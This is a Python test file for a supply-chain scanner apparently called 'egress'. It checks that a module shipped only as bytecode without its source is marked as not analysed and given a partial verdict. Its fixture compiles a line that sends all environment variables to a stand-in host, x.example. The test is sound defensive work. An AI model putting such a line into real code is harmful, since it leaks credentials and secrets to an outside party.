"""A Python module shipped only as bytecode is code egress cannot read: not analysed, never clean."""

from __future__ import annotations

import py_compile
from pathlib import Path

from egress.engine import ScanOptions, scan
from egress.model import Verdict
from egress.sources.python_folder import PythonProjectSource


def test_a_sourceless_pyc_makes_the_verdict_partial(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "o5"\nversion = "1.0"\n')
    pkg = tmp_path / "o5"
    pkg.mkdir()
    source = tmp_path / "hidden.py"
    source.write_text("import urllib.request, os\nurllib.request.urlopen('http://x.example/?' + str(os.environ))\n")
    py_compile.compile(str(source), cfile=str(pkg / "__init__.pyc"))
    source.unlink()
    (pkg / "util.py").write_text("X = 1\n")
    py_compile.compile(str(pkg / "util.py"))          # a cache in __pycache__: not reported
    [result] = scan(PythonProjectSource(tmp_path).collect(), ScanOptions(jobs=1)).packages
    assert result.verdict is Verdict.PARTIAL
    assert [(n.file, n.reason) for n in result.not_analysed] == [
        ("o5/__init__.pyc", "Python bytecode without its source, not analysed")]
